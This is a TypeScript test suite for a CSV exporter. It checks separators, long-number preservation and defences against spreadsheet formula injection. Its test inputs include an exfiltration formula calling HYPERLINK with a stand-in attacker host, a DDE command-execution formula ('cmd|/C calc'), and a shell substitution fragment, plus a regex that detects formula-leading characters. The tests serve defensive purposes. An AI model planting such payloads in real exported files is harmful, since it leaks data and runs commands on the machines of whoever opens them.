import assert from 'node:assert/strict';
import fc from 'fast-check';
import { cellOf, csvSeparatorOf, csvText } from '../../../src/export/csv';
import { parseExact } from '../../../src/portal/exactJson';
import { otherReaders } from './otherReaders';
import { readCsv, readExported, unmarked } from './readCsv';

/** What a cell looks like in the file, once its quotes are taken away. */
function inFile(cell: string): string {
  const [, [written = ''] = []] = readCsv(csvText(['a'], [[cell]]).slice(1));
  return written;
}

const pieces = [
  ...[
    '=',
    '+',
    '-',
    '@',
    "'",
    '"',
    ',',
    ';',
    '|',
    '^',
    '~',
    '\t',
    '\r',
    '\n',
    ' ',
    '\u00a0',
    '0',
    '1',
    'e',
    '.',
    'x',
    '\u202e',
  ],
  ...['\uff1d', '\ufe66', '\u2212', '\u207a', '\u200b', '\ufeff', '\u2028', '\v', '\u3000', '\0'],
  ...['\r\n', '""', "''", '=1+1', '3197218168379846219', '$(zap)', '<b>', '上'],
];
const cell = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.array(fc.constantFrom(...pieces)).map((some) => some.join('')),
);

describe('CSV', () => {
  it('begins with a byte order mark and ends every line with CR LF', () => {
    assert.equal(csvText(['a', 'b'], [['1', 'x']]), '\ufeffa,b\r\n1,x\r\n');
    assert.equal(csvText(['a'], []), '\ufeffa\r\n');
  });

  for (const separator of [',', ';', '\t'] as const) {
    it(`is read again with the separator ${JSON.stringify(separator)}, whatever the cells hold`, () => {
      fc.assert(
        fc.property(fc.array(fc.tuple(cell, cell, cell)), (rows) => {
          const text = csvText(['a', 'b', 'c'], rows, separator);
          const read = readCsv(text.slice(1), separator).map((row) =>
            row.map((written) => unmarked(written, separator)),
          );
          assert.deepEqual(read, [['a', 'b', 'c'], ...rows]);
        }),
      );
    });
  }

  for (const digits of ['3197218168379846219', '1234567890123456']) {
    const [whole, rest] = [digits.slice(0, 3), digits.slice(3)];
    const grouped = (mark: string) => digits.replace(/\B(?=(\d{3})+$)/g, mark);
    const wide = digits.replace(/\d/g, (digit) => String.fromCharCode(0xff10 + Number(digit)));
    const arabic = digits.replace(/\d/g, (digit) => String.fromCharCode(0x0660 + Number(digit)));
    for (const text of [
      ...[
        digits,
        `${whole},${rest}`,
        `${whole}.${rest}`,
        `.${digits}`,
        `,${digits}`,
        `(${digits})`,
        `[${digits}]`,
      ],
      ...['.', ',', ' ', '\u00a0', '\u202f', "'", '’', '_'].map(grouped),
      ...['$', '€', '¥', '£', '₩', '￥', '＄'].flatMap((sign) => [`${sign}${digits}`, `${digits} ${sign}`]),
      ...[
        `${digits}%`,
        `% ${digits}`,
        `($${digits}.00)`,
        `${digits}-`,
        ` ${digits} `,
        wide,
        `（${wide}）`,
        arabic,
      ],
      ...[
        `${wide.slice(0, 4)}，${wide.slice(4)}`,
        '1e5',
        '1,5e10',
        '.5E+3',
        '１ｅ５',
        '007',
        '00,5',
        '$007',
        '(007)',
      ],
    ]) {
      for (const separator of [',', ';', '\t'] as const) {
        it(`keeps each digit of ${JSON.stringify(text)} behind a mark, between ${JSON.stringify(separator)}`, () => {
          const [, [, written = ''] = []] = readCsv(
            csvText(['a', 'b'], [['x', text]], separator).slice(1),
            separator,
          );
          assert.ok(written.startsWith("'"), written);
          assert.equal(unmarked(written, separator), text);
        });
      }
    }
  }

  it('marks no number that spreadsheets hold, no date and no name', () => {
    for (const text of [
      ...[
        '123456789012345',
        '12,345.67',
        '0.5',
        '0',
        '$1,250.00',
        '12%',
        '2026-11-27',
        '2026-11-27T14:02:11.000Z',
      ],
      ...['YL3206252408495661056', '3658B4311196K2ID', '192.168.10.1', 'e5', '1e', '12345 67890 main'],
    ]) {
      assert.equal(inFile(text), text);
    }
  });

  it('is separated by the comma where the setting says nothing that can be used', () => {
    assert.deepEqual([',', ';', '\t'].map(csvSeparatorOf), [',', ';', '\t']);
    const odd = ['', '|', ',,', 'tab', ' ', 7, null, undefined, [';'], {}];
    assert.deepEqual(new Set(odd.map(csvSeparatorOf)), new Set([',']));
  });

  it('is read again by a parser of its own, cell by cell, whatever the cells hold', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 4 }),
        fc.array(fc.array(cell, { minLength: 4, maxLength: 4 })),
        (count, made) => {
          const rows = made.map((row) => row.slice(0, count));
          const columns = ['a', 'b', 'c', 'd'].slice(0, count);
          const read = readExported(csvText(columns, rows));
          assert.deepEqual(read, [columns, ...rows]);
        },
      ),
    );
  });

  /** What can begin a formula, also behind what a program may leave out when it reads a cell. */
  const formula =
    /^[\s\p{Z}\p{C}"]*[=+\-@\u207a-\u207c\u208a-\u208c\u2212\ufe62\ufe63\ufe66\ufe6b\uff0b\uff0d\uff1d\uff20]/u;

  const separators = [',', ';', '\t'] as const;
  /** What a program may be set to. */
  const anySeparators = [...separators, '|', '^', '~'];
  for (const separator of separators) {
    it(`holds no formula where ${JSON.stringify(separator)} separates the cells, whoever reads it`, () => {
      fc.assert(
        fc.property(fc.array(cell, { minLength: 1 }), (cells) => {
          const text = csvText(cells, [cells], separator).slice(1);
          const readings = anySeparators
            .filter((other) => other !== separator)
            .flatMap((other) => Object.values(otherReaders).map((reader) => reader(text, other)));
          for (const read of [readCsv(text, separator), ...readings].flat(2)) {
            assert.doesNotMatch(read, formula);
          }
          for (const written of readCsv(text, separator).flat()) {
            assert.doesNotMatch(written, /^[\t\r\n]/);
          }
        }),
        { numRuns: 500 },
      );
    });
  }

  const formulaInside = [
    'a;"=1+1"',
    'a;""=1+1',
    'a;" =1+1"',
    'a\n"=1+1',
    'a\t\u200b"@x',
    '"=1+1"',
    '"\uff1d1',
    'a,"=1+1"',
    'a,-1',
    'a\u2028=1',
    '\u2212 1',
    'PBX|=HYPERLINK("http://evil.example/?"&A1|"x")|',
    'a^"=1+1"',
    'a~ @x',
  ];
  for (const text of formulaInside) {
    it(`marks ${JSON.stringify(text)} wherever another separator makes a cell of it`, () => {
      for (const separator of separators) {
        const file = csvText(
          ['a', 'b', 'c'],
          [
            [text, 'b', 'c'],
            ['a', text, text],
          ],
          separator,
        ).slice(1);
        for (const other of anySeparators.filter((one) => one !== separator)) {
          for (const [reader, readAs] of Object.entries(otherReaders)) {
            for (const read of readAs(file, other).flat()) {
              assert.doesNotMatch(read, formula, `${reader}, ${JSON.stringify(separator + other)}`);
            }
          }
        }
      }
    });
  }

  const formulas = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\uff1d1',
    '=HYPERLINK("https://x.test","y")',
    "=cmd|'/C calc'!A0",
  ];
  for (const formula of formulas) {
    it(`marks ${JSON.stringify(formula)} as text`, () => {
      assert.ok(inFile(formula).startsWith("'"));
    });
  }

  const numbers = [
    ['3197218168379846219', "'3197218168379846219"],
    ['3048573935752720384', "'3048573935752720384"],
    ['1234567890123456', "'1234567890123456"],
    ['123456789012345', '123456789012345'],
    ['00042', "'00042"],
    ['0', '0'],
    ['12E5', "'12E5"],
    ['1e400', "'1e400"],
    ['0.1234567890123456', "'0.1234567890123456"],
    ['125.00', '125.00'],
    ['YL3206252408495661056', 'YL3206252408495661056'],
    ['3658B4311196K2ID', '3658B4311196K2ID'],
    ['2026-03-31', '2026-03-31'],
  ] as const;
  for (const [digits, written] of numbers) {
    it(`writes ${digits} as ${written}, so that no spreadsheet rounds it`, () => {
      assert.equal(inFile(digits), written);
    });
  }

  it('writes values as they were received, and nothing where nothing is told', () => {
    const json = parseExact(
      '["text",3197218168379846219,125.00,true,null,{"planId":3048571730026938369},[1,"a"]]',
    );
    assert.ok(Array.isArray(json));
    assert.deepEqual(json.map(cellOf), [
      'text',
      '3197218168379846219',
      '125.00',
      'true',
      '',
      '{"planId":3048571730026938369}',
      '[1,"a"]',
    ]);
    assert.equal(cellOf(undefined), '');
  });
});
